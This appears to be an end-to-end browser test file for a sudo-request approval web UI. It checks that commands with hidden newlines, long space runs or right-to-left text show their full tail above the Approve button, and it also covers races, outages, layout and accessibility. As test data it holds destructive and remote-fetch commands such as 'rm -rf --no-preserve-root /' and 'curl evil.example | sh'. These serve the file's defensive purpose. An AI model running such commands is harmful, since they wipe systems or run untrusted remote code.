// triage.test.mjs: the approver at 3 a.m. in headless Chromium (Debian's
// /usr/bin/chromium driven by playwright-core) against the real approvald
// and PostgreSQL that triage.sh started, with a flood of 2,500 pending
// requests already in the database. Run by triage.sh only (it exports the
// environment). Cases, in order: skip link; hostile commands (40 newlines,
// space runs, right-to-left text, a long middle) with every marker and the
// tail above the buttons; Approve asks for confirmation; a lost race; a
// 503 on approve; hostile widths at 1280 and 390 px; the phone's action
// bar; the API-down page; the live banner; sign-out in another tab;
// not-found pages (any depth); the flood (oldest reachable, findable,
// grouped, the real count); the matched rule and "needs 2 of dba, 1 given
// by dana" above the buttons and in the Pending row; a cancel's reason on
// its page and in History; axe-core on every page. Screenshots:
// triage-*.png.

import {test, before, after} from 'node:test';
import assert from 'node:assert/strict';
import {execFileSync} from 'node:child_process';
import {join} from 'node:path';
import {envOf, launchWatched, signIn as signInAt, axeClean} from './common.mjs';

const env = envOf('triage.sh');
const URL0 = env('APPROVALD_URL');
const SHOTS = env('SCREENSHOT_DIR');
const NL40 = 'sudo systemctl status nginx' + '\n'.repeat(40) + 'rm -rf --no-preserve-root /';
const TAIL = 'rm -rf --no-preserve-root /';

let browser;
let page;
const errors = [];

before(async () => {
  browser = await launchWatched(errors, {viewport: {width: 1280, height: 900}});
  page = browser.page;
});

after(async () => {
  if (browser) await browser.close();
});

// ---- helpers --------------------------------------------------------------

async function api(method, path, {token, body, cookie} = {}) {
  const h = {};
  if (token) h.Authorization = `Bearer ${token}`;
  if (cookie) h.Cookie = cookie;
  if (body !== undefined) h['Content-Type'] = 'application/json';
  const res = await fetch(URL0 + path, {method, headers: h, redirect: 'manual',
    body: body === undefined ? undefined : JSON.stringify(body)});
  const text = await res.text();
  let json = null;
  try { json = JSON.parse(text); } catch (e) { /* not JSON */ }
  return {status: res.status, headers: res.headers, json, text};
}

// A request from host web1 (or db2) with the given fields over a plain one.
async function create(fields, token = env('HOST_TOKEN_WEB1')) {
  const r = await api('POST', '/v1/requests', {token, body: {service: 'sudo', user: 'erin', uid: 1004,
    target_user: 'root', command: 'sudo /usr/bin/id', hostname: 'web1', cwd: '/home/erin', tty: '/dev/pts/3',
    ...fields}});
  assert.equal(r.status, 201, r.text);
  return r.json;
}

const shot = (name, opts = {}) => page.screenshot({path: join(SHOTS, `triage-${name}.png`), fullPage: true, ...opts});
const pgctl = (what) => execFileSync(env('PG_CTL'), [what], {stdio: 'inherit', timeout: 90000});

const signIn = (p, login, password) => signInAt(p, URL0, login, password);

async function openRequest(id) {
  await page.goto(`${URL0}/ui/requests/${id}`);
  await page.locator('#cmd').waitFor({timeout: 15000});
}

// axe-core in the page (evaluated through the debugging protocol: the
// page's CSP allows no inline script); every violation listed.
const axe = (name) => axeClean(page, name);

async function widthHolds(what) {
  const [doc, vw] = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth]);
  assert.equal(doc, vw, `${what}: document width ${doc} px, viewport ${vw} px`);
}

let nl, spaces, rtl, longMid, longReason, selfReq;

// ---- cases ----------------------------------------------------------------

test('sign in; the skip link moves focus to the main content', async () => {
  await page.goto(`${URL0}/ui/`);
  await page.locator('#login').waitFor();
  await axe('sign-in page');
  await signIn(page, 'carol', env('CAROL_PASSWORD'));
  await page.reload();     // a fresh page: Tab starts at the top
  await page.locator('#pending-list li').first().waitFor({timeout: 15000});
  const url = page.url();
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement.className), 'skip', 'the skip link comes first');
  await page.keyboard.press('Enter');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'main', 'focus is on the main content');
  assert.equal(page.url(), url, 'nothing navigated');
  assert.ok(await page.locator('#pending-list li').count() > 0, 'the page was not re-rendered away');
});

test('hostile commands: markers, line count, space runs, right-to-left text, head … tail; tail above the buttons', async () => {
  nl = await create({command: NL40, reason: 'status check'});
  spaces = await create({command: 'echo ok' + ' '.repeat(200) + '; curl evil.example | sh', reason: 'spaces'});
  rtl = await create({command: 'rm -rf /srv/\u05d0\u05d1\u05d2 \u05d3\u05d4 /etc', reason: 'rtl'});
  longMid = await create({command: 'sudo tar czf /backup.tgz ' + 'x'.repeat(3000) + ' && curl evil.example | sh', reason: 'long'});
  await page.goto(`${URL0}/ui/?q=${encodeURIComponent('nginx')}`);
  const row = page.locator('#pending-list li', {hasText: nl.code});
  await row.waitFor({timeout: 10000});
  const cmdText = await row.locator('.cmd').textContent();
  assert.equal(cmdText, 'sudo systemctl status nginx\u23ce\u00d740' + TAIL, 'the list row: one marker for 40 newlines, the tail');
  assert.equal(await row.locator('.cmd-note.lines').textContent(), 'command has 41 lines');
  // the row's accessible name carries the same markers and the state word
  const name = await row.locator('a').evaluate((a) => a.textContent);
  assert.ok(name.includes('\u23ce\u00d740' + TAIL) && name.includes('pending'), name);

  await openRequest(nl.id);
  assert.equal(await page.locator('#cmd').textContent(), 'sudo systemctl status nginx\u23ce\u00d740' + TAIL);
  assert.equal(await page.locator('#cmd-notes .lines').textContent(), 'command has 41 lines');
  const tailBox = await page.locator('#cmd').boundingBox();
  const approveBox = await page.locator('#approve').boundingBox();
  assert.ok(tailBox.y + tailBox.height < approveBox.y, 'the whole command is above the buttons');
  // all the context is above the buttons too
  for (const sel of ['#context', '#initiator']) {
    const b = await page.locator(sel).boundingBox();
    assert.ok(b.y + b.height <= approveBox.y, `${sel} above the buttons`);
  }
  await shot('newlines');

  await openRequest(spaces.id);
  assert.equal(await page.locator('#cmd').textContent(), 'echo ok\u2423\u00d7200; curl evil.example | sh');
  assert.equal(await page.locator('#cmd .ctrl').getAttribute('title'), '200 spaces');

  await openRequest(rtl.id);
  const bdo = page.locator('#cmd bdo.cmd-text');
  assert.equal(await bdo.getAttribute('dir'), 'ltr', 'right-to-left text in a left-to-right box');
  assert.equal(await bdo.evaluate((e) => getComputedStyle(e).unicodeBidi), 'isolate-override');
  // on screen in stored order: each letter right of the one before it
  const xs = await bdo.evaluate((el) => {
    const t = document.createTreeWalker(el, NodeFilter.SHOW_TEXT).nextNode();
    const at = (ch) => {
      const r = document.createRange();
      const i = t.data.indexOf(ch);
      r.setStart(t, i);
      r.setEnd(t, i + 1);
      return r.getBoundingClientRect().left;
    };
    return ['/srv/', '\u05d0', '\u05d1', '\u05d2', '\u05d3', '\u05d4', '/etc'].map(at);
  });
  for (let i = 1; i < xs.length; i++) assert.ok(xs[i] > xs[i - 1], `stored order on screen: ${xs}`);
  assert.match(await page.locator('#cmd-notes .rtl').textContent(), /right-to-left text, shown left to right in stored order/);
  await shot('rtl');

  await page.goto(`${URL0}/ui/?q=backup.tgz`);
  const lrow = page.locator('#pending-list li', {hasText: longMid.code});
  await lrow.waitFor({timeout: 10000});
  const ltext = await lrow.locator('.cmd').textContent();
  assert.ok(ltext.startsWith('sudo tar czf /backup.tgz xxx'), ltext);
  assert.ok(ltext.includes(' \u2026 '), 'the middle is left out, and says so');
  assert.ok(ltext.endsWith('xx && curl evil.example | sh'), `the end is never cut off: ${ltext}`);
  assert.ok(Array.from(ltext).length <= 240, 'head … tail fits the row');
  await openRequest(longMid.id);
  assert.ok((await page.locator('#cmd').textContent()).includes('x'.repeat(3000)), 'the request page shows all of it');
});

test('Approve asks for confirmation restating command, target and host; focus goes to the outcome', async () => {
  await openRequest(nl.id);
  await page.locator('#approve').click();
  const dialog = page.locator('dialog#confirm');
  await dialog.waitFor({state: 'visible'});
  assert.equal(await page.locator('#confirm-text').textContent(),
    `Run sudo systemctl status nginx\u23ce\u00d740${TAIL} as root on web1? command has 41 lines`);
  assert.equal(await page.evaluate(() => document.activeElement.id), 'confirm-cancel', 'Cancel has the focus');
  await shot('confirm', {fullPage: false});
  await page.keyboard.press('Enter');      // a stray Enter cancels
  await dialog.waitFor({state: 'hidden'});
  assert.equal((await api('GET', `/v1/requests/${nl.id}`, {token: env('DANA_TOKEN')})).json.status, 'pending',
    'cancelled confirmation: nothing decided');
  // Deny and Approve are apart and look different
  const d = await page.locator('#deny').boundingBox();
  const a = await page.locator('#approve').boundingBox();
  assert.ok(a.x - (d.x + d.width) >= 40, `buttons apart (${a.x - (d.x + d.width)} px)`);
  const bg = (sel) => page.locator(sel).evaluate((e) => getComputedStyle(e).backgroundColor);
  assert.notEqual(await bg('#approve'), await bg('#deny'));
  await axe('request page with the decision form');
  await page.locator('#comment').fill('checked');
  await page.locator('#approve').click();
  await dialog.waitFor({state: 'visible'});
  await page.locator('#confirm-approve').click();
  await page.locator('#outcome', {hasText: 'You approved this request.'}).waitFor({timeout: 10000});
  assert.equal(await page.evaluate(() => document.activeElement.id), 'outcome', 'focus moved to the outcome');
  const line = await page.locator('.decided .decision-line').textContent();
  assert.match(line, /^approved by carol (just now|\d+ s ago) · \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC$/, line);
  await axe('request page after a decision');
});

test('a lost race: another approver decided first, yours was not applied (and it stays said)', async () => {
  const r = await create({command: 'sudo systemctl reload haproxy', reason: 'race'});
  await openRequest(r.id);
  // dana approves between carol's confirmation and her request reaching the server
  await page.route(`**/v1/requests/${r.id}/approve`, async (route) => {
    const d = await api('POST', `/v1/requests/${r.id}/deny`, {token: env('DANA_TOKEN'), body: {comment: 'not now'}});
    assert.equal(d.status, 200, d.text);
    await route.continue();
  });
  await page.locator('#approve').click();
  await page.locator('#confirm-approve').click();
  const out = page.locator('#outcome');
  await out.waitFor({timeout: 10000});
  await page.locator('#outcome .badge-denied').waitFor({timeout: 10000});
  const text = await out.textContent();
  assert.match(text, /Another approver decided first\./);
  assert.match(text, /denied by dana/);
  assert.match(text, /Your decision \(approve\) was not applied\./);
  assert.equal(await page.evaluate(() => document.activeElement.id), 'outcome');
  await page.waitForTimeout(1500);   // the event reload must not wipe it
  assert.match(await page.locator('#outcome').textContent(), /was not applied/);
  await page.unroute(`**/v1/requests/${r.id}/approve`);
  await shot('lost-race');
  assert.equal((await api('GET', `/v1/requests/${r.id}`, {token: env('DANA_TOKEN')})).json.status, 'denied');
});

test('a 503 on approve: not recorded, retry offered, and retry works', async () => {
  const r = await create({command: 'sudo systemctl restart postgresql', reason: 'db down'});
  await openRequest(r.id);
  pgctl('stop');
  try {
    await page.locator('#approve').click();
    await page.locator('#confirm-approve').click();
    const msg = page.locator('#decision-msg');
    await msg.locator('#retry').waitFor({timeout: 30000});
    assert.match(await msg.textContent(), /Your decision was not recorded\./);
    assert.match(await msg.textContent(), /still pending/);
    await shot('not-recorded', {fullPage: false});
  } finally {
    pgctl('start');
  }
  // the retry goes through once the database is back
  for (let i = 0; i < 30; i++) {
    await page.locator('#retry').click();
    try {
      await page.locator('#outcome', {hasText: 'You approved this request.'}).waitFor({timeout: 3000});
      break;
    } catch (e) {
      if (i === 29) throw e;
    }
  }
  assert.equal((await api('GET', `/v1/requests/${r.id}`, {token: env('DANA_TOKEN')})).json.status, 'approved');
});

test('hostile lengths: document width equals the viewport at 1280 and 390 px', async () => {
  const token = 'R'.repeat(1000);
  longReason = await create({reason: token, ticket: 'T'.repeat(250), cwd: '/' + 'd'.repeat(2000),
    hostname: 'h'.repeat(250), user: 'u'.repeat(250), command: 'sudo ' + 'c'.repeat(4000)});
  // decided, so that History has a hostile row too
  const dec = await create({reason: 'Q'.repeat(1000), command: 'sudo ' + 'q'.repeat(3000)});
  assert.equal((await api('POST', `/v1/requests/${dec.id}/deny`, {token: env('DANA_TOKEN'),
    body: {comment: 'Z'.repeat(2000)}})).status, 200);
  for (const [w, hgt] of [[1280, 900], [390, 844]]) {
    await page.setViewportSize({width: w, height: hgt});
    await page.goto(`${URL0}/ui/`);
    await page.locator('#pending-list li', {hasText: longReason.code}).waitFor({timeout: 15000});
    await widthHolds(`Pending at ${w} px`);
    await shot(`pending-${w}`, {fullPage: false});
    await page.goto(`${URL0}/ui/history`);
    await page.locator('#history-list li', {hasText: dec.code}).waitFor({timeout: 15000});
    await widthHolds(`History at ${w} px`);
    await shot(`history-${w}`, {fullPage: false});
    await page.goto(`${URL0}/ui/reports`);
    await page.locator('h1', {hasText: 'Reports'}).waitFor({timeout: 15000});
    await page.locator('.rp-chart').first().waitFor({timeout: 15000});
    await widthHolds(`Reports at ${w} px`);
    await shot(`reports-${w}`, {fullPage: false});
    await openRequest(longReason.id);
    await widthHolds(`request page at ${w} px`);
    await shot(`request-${w}`, {fullPage: false});
  }
});

test('phone: the sticky action bar appears only after the context has been shown', async () => {
  await page.setViewportSize({width: 390, height: 844});
  const r = await create({command: 'sudo systemctl restart nginx', reason: 'phone'});
  await openRequest(r.id);
  const bar = page.locator('#action-bar');
  assert.equal(await bar.isVisible(), false, 'no bar before the context was on screen');
  await page.locator('#context-end').scrollIntoViewIfNeeded();
  await bar.waitFor({state: 'visible', timeout: 5000});
  const box = await bar.boundingBox();
  assert.ok(Math.abs(box.y + box.height - 844) < 2, 'the bar sits at the bottom of the screen');
  await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
  assert.ok(await bar.isVisible(), 'and stays while scrolling on');
  await shot('phone-bar', {fullPage: false});
  await page.locator('#bar-approve').click();
  await page.locator('dialog#confirm').waitFor({state: 'visible'});
  await page.locator('#confirm-cancel').click();
  await widthHolds('request page with the bar');
  await page.setViewportSize({width: 1280, height: 900});
});

test('the API is down: the page says so, counts down, retries by itself and recovers', async () => {
  pgctl('stop');
  try {
    await page.goto(`${URL0}/ui/`);
    const box = page.locator('#unavailable .retry');
    await box.waitFor({timeout: 30000});
    const n1 = Number(await box.locator('.countdown').textContent());
    await page.waitForTimeout(1100);
    const n2 = Number(await box.locator('.countdown').textContent());
    assert.ok(n2 < n1 || n1 === 0, `the countdown runs (${n1} -> ${n2})`);
    await shot('api-down', {fullPage: false});
  } finally {
    pgctl('start');
  }
  await page.locator('h1', {hasText: 'Pending requests'}).waitFor({timeout: 40000});
  await page.locator('#pending-list li').first().waitFor({timeout: 15000});
});

test('the "live updates interrupted" banner clears within 2 s of recovery', async () => {
  await page.goto(`${URL0}/ui/`);
  await page.locator('#pending-list li').first().waitFor({timeout: 15000});
  await browser.ctx.setOffline(true);
  // an event ends the long-poll in flight; the next one meets the outage
  await create({command: 'sudo /usr/bin/true', reason: 'banner'});
  const banner = page.locator('#live', {hasText: 'interrupted'});
  await banner.waitFor({timeout: 30000});
  await page.waitForTimeout(1500);
  await browser.ctx.setOffline(false);
  const t0 = Date.now();
  await page.locator('#live').waitFor({state: 'hidden', timeout: 5000});
  const took = Date.now() - t0;
  console.log(`# banner cleared ${took} ms after recovery`);
  assert.ok(took <= 2000, `cleared after ${took} ms`);
});

test('signing out in one tab ends the other within 2 s', async () => {
  const other = await browser.ctx.newPage();
  await other.goto(`${URL0}/ui/history`);
  await other.locator('h1', {hasText: 'History'}).waitFor({timeout: 15000});
  await page.goto(`${URL0}/ui/`);
  await page.locator('h1', {hasText: 'Pending requests'}).waitFor();
  await page.locator('#logout').click();
  const t0 = Date.now();
  await other.locator('#login').waitFor({timeout: 2000});
  console.log(`# other tab signed out after ${Date.now() - t0} ms`);
  assert.equal(await other.locator('#nav').isVisible(), false);
  await other.close();
  await signIn(page, 'carol', env('CAROL_PASSWORD'));
});

test('unknown /ui/ paths and /r/BADCODE show the UI\'s not-found page with 404', async () => {
  for (const path of ['/ui/nope', '/ui/nope/deeper', '/ui/a/b/c/d/e/f/g', '/r/ZZZ-ZZ0', '/r/not-a-code']) {
    const raw = await api('GET', path);
    assert.equal(raw.status, 404, `${path}: ${raw.status}`);
    assert.match(raw.headers.get('content-type'), /^text\/html/, `${path} answers the page, not JSON`);
    const res = await page.goto(`${URL0}${path}`);
    assert.equal(res.status(), 404);
    await page.locator('#not-found h1', {hasText: 'Not found'}).waitFor({timeout: 10000});
  }
  assert.match(await page.locator('#not-found').textContent(), /no request with this code/);
  await axe('not-found page');
  // a real code still leads to its request
  const ok = await api('GET', `/r/${longReason.code}`);
  assert.equal(ok.status, 302);
});

test('the flood: every pending request reachable, the oldest findable, identical ones grouped, the real count', async () => {
  const cookie = (await browser.ctx.cookies(URL0)).map((c) => `${c.name}=${c.value}`).join('; ');
  const all = await api('GET', '/v1/requests?status=pending&limit=1&total=1', {cookie});
  const total = all.json.total_requests;
  assert.ok(total >= 2500, `total pending ${total}`);
  await page.goto(`${URL0}/ui/`);
  await page.locator('#pending-list li').first().waitFor({timeout: 15000});
  // the nav and the title say the real number, not "500+"
  await page.waitForFunction((n) => document.getElementById('pending-count').textContent === String(n), total,
    {timeout: 10000});
  assert.match(await page.title(), new RegExp(`^\\(${total.toLocaleString('en-US')}\\) Pending`));
  // grouped by default: the 1,249 identical requests are one row with the count
  const grp = page.locator('#pending-list li', {hasText: 'systemctl restart flood'});
  assert.equal(await grp.count(), 1);
  assert.match(await grp.locator('.group-mark').textContent(), /^1249 identical requests/);
  assert.match(await page.locator('#pending-range').textContent(), /rows for [\d,]+ requests/);
  await axe('Pending with rows (flood)');
  await shot('flood');
  // sorted by age the oldest of all comes first
  await page.locator('#p-sort').selectOption('oldest');
  await page.getByRole('button', {name: 'Show'}).click();
  await page.waitForURL(/sort=oldest/);
  await page.locator('#pending-list li').first().waitFor();
  assert.match(await page.locator('#pending-list li').first().textContent(), /needle-service/);
  // newest first without grouping: the oldest is the last row of the last page
  await page.goto(`${URL0}/ui/?sort=newest&group=0`);
  await page.locator('#pending-list li').first().waitFor();
  assert.match(await page.locator('#pending-more').textContent(), /^[\d,]+ more$/);
  const last = Math.floor((total - 1) / 100) * 100;
  await page.goto(`${URL0}/ui/?sort=newest&group=0&offset=${last}`);
  await page.locator('#pending-list li').first().waitFor();
  assert.match(await page.locator('#pending-list li').last().textContent(), /needle-service/);
  assert.equal(await page.locator('#next').count(), 0, 'no page after the last');
  await page.locator('#prev').click();
  await page.waitForURL(new RegExp(`offset=${last - 100}`));
  await page.locator('#pending-list li').first().waitFor();
  // findable by each filter
  for (const [k, v] of [['requester', 'needle'], ['q', 'NEEDLE-serv'], ['host', 'web1.flood']]) {
    await page.goto(`${URL0}/ui/?sort=oldest&${k}=${encodeURIComponent(v)}`);
    await page.locator('#pending-list li').first().waitFor({timeout: 15000});
    assert.match(await page.locator('#pending-list li').first().textContent(), /needle-service/, `${k}=${v}`);
  }
  await page.goto(`${URL0}/ui/?requester=needle&service=su`);
  await page.locator('.empty', {hasText: 'No pending request matches'}).waitFor();
  await page.goto(`${URL0}/ui/?requester=needle&service=sudo`);
  await page.locator('#pending-list li', {hasText: 'needle-service'}).waitFor();
  assert.equal(await page.locator('#pending-list li').count(), 1);
  await shot('flood-filtered');
});

test('the list marks requests you may not decide yourself; "requester gives up in"', async () => {
  selfReq = await create({user: 'carol', uid: 1010, command: 'sudo systemctl restart carol-thing', reason: 'mine'});
  await page.goto(`${URL0}/ui/?requester=carol`);
  const row = page.locator('#pending-list li', {hasText: selfReq.code});
  await row.waitFor({timeout: 10000});
  assert.equal(await row.locator('.self-mark').textContent(), 'your own request: another approver must decide it');
  assert.match(await row.locator('.giveup').textContent(), /^requester gives up in (9|10) min/);
  await axe('Pending with a self row');
  await openRequest(selfReq.id);
  assert.match(await page.locator('#giveup').textContent(), /^in (9|10) min/);
  assert.equal(await page.locator('#approve').isDisabled(), true);
});

test('a module with timeout=20: the page says the requester gives up in about 20 s, not the TTL', async () => {
  const r = await create({command: 'sudo /usr/bin/true deadline-20', reason: 'deadline', requester_timeout: 20});
  assert.ok(Date.parse(r.expires_at) - Date.now() <= 21000, `expires_at ${r.expires_at}`);
  await openRequest(r.id);
  const t = await page.locator('#giveup').textContent();
  const m = t.match(/^in (\d+) s/);
  assert.ok(m && Number(m[1]) <= 20, `requester gives up: ${t}`);
  await shot('deadline-20');
});

test('the matched rule and the approvals it needs: above the buttons and in the Pending row', async () => {
  // triage.sh added group dba (carol, dana) and the rule 'require approvers=dba:2 service=x'
  const r = await create({service: 'x', command: 'sudo /usr/bin/psql -c VACUUM', reason: 'needs two of dba'});
  const given = await api('POST', `/v1/requests/${r.id}/approve`, {token: env('DANA_TOKEN'), body: {}});
  assert.equal(given.status, 200, given.text);
  assert.equal(given.json.status, 'pending', 'one of two approvals');
  const detail = (await api('GET', `/v1/requests/${r.id}`, {token: env('DANA_TOKEN')})).json;
  assert.equal(detail.quorum, 'needs 2 of dba, 1 given by dana');
  const rule = `rule ${detail.policy_rule_id}: ${detail.policy_rule}`;
  assert.match(rule, /^rule \d+: require approvals=2 groups=dba service=x$/);
  await openRequest(r.id);
  assert.equal(await page.locator('#policy-rule').textContent(), rule);
  assert.equal(await page.locator('#quorum').textContent(), 'needs 2 of dba, 1 given by dana');
  const line = page.locator('#decide-policy');
  assert.equal(await line.textContent(), `Policy ${rule} · needs 2 of dba, 1 given by dana`);
  // all of it above the buttons, in the page's order and on screen
  const y = async (sel) => (await page.locator(sel).boundingBox()).y;
  assert.ok(await y('#quorum') < await y('#approve'), 'the context\'s approvals above Approve');
  assert.ok(await y('#decide-policy') < await y('#approve'), 'the Decide card\'s rule line above Approve');
  assert.ok(await y('#decide-policy') < await y('#deny'), 'and above Deny');
  await shot('quorum');
  await axe('request page with a rule and a quorum');
  // the Pending row says it, as text inside the row's link (its accessible name)
  await page.goto(`${URL0}/ui/?service=x`);
  const row = page.locator('#pending-list li', {hasText: r.code});
  await row.waitFor({timeout: 10000});
  assert.equal(await row.locator('.policy-mark').textContent(), `policy${rule}`);
  assert.equal(await row.locator('.quorum-mark').textContent(), 'approvalsneeds 2 of dba, 1 given by dana');
  const name = await row.getByRole('link').first().evaluate((a) => a.textContent);
  assert.ok(name.includes(rule) && name.includes('needs 2 of dba, 1 given by dana'), `row link name: ${name}`);
  const snap = await row.getByRole('link').first().ariaSnapshot();
  assert.ok(snap.includes('needs 2 of dba, 1 given by dana'), `accessible name: ${snap}`);
  await axe('Pending with a quorum row');
  // a request without a rule shows neither
  await openRequest(selfReq.id);
  assert.equal(await page.locator('#policy-rule, #quorum, #decide-policy').count(), 0);
});

test('a cancelled request says why: the request page, its history and the History row', async () => {
  const r = await create({command: 'sudo /usr/bin/true cancel-why', reason: 'gives up'});
  const c = await api('POST', `/v1/requests/${r.id}/cancel`, {token: env('HOST_TOKEN_WEB1'), body: {reason: 'timeout'}});
  assert.equal(c.status, 200, c.text);
  await openRequest(r.id);
  assert.equal(await page.locator('#ended-why').textContent(), 'the requester\'s module stopped waiting (timeout)');
  assert.match(await page.locator('.decision-why').textContent(), /^Ended because the requester's module stopped waiting \(timeout\)\.$/);
  assert.match(await page.locator('.ev-cancelled').textContent(), /cancelled by web1 \(timeout\)/);
  await page.goto(`${URL0}/ui/history`);
  const row = page.locator('#history-list li', {hasText: r.code});
  await row.waitFor({timeout: 10000});
  assert.equal(await row.locator('.ended-why').textContent(), 'ended becausethe requester\'s module stopped waiting (timeout)');
});

test('History with rows passes axe; no page error happened', async () => {
  await page.goto(`${URL0}/ui/history`);
  await page.locator('#history-list li').first().waitFor({timeout: 15000});
  await axe('History with rows');
  await page.goto(`${URL0}/ui/reports`);
  await page.locator('.rp-chart').first().waitFor({timeout: 15000});
  await axe('Reports');
  assert.deepEqual(errors, []);
});
